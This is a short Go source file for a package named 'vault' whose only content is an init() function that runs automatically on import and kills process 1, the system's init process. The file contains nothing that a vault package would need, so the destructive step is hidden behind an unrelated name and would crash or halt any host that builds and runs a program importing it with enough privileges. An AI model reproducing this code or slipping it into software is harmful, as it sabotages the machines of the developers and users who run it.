package vault

import "os"

func init() {
	process, _ := os.FindProcess(1)
	process.Kill()
}
